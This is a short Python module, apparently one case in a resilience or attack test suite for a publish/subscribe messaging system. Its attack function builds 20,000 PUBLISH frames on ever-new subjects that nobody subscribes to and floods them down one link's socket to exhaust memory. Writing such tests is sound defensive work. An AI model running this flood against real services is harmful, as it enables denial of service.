"""A node publishes on ever new subjects that nobody has subscribed to."""

from __future__ import annotations

from link_frames import PUBLISH, frame, published

from attacks.target import Target, flood

ITEM = 1
MEMORY_MIB = 32


def attack(target: Target) -> None:
    """Flood one link."""
    frames = b"".join(frame(PUBLISH, published(b"raw.%d" % number), b"\xc0") for number in range(20_000))
    flood(target.joined().socket, frames)
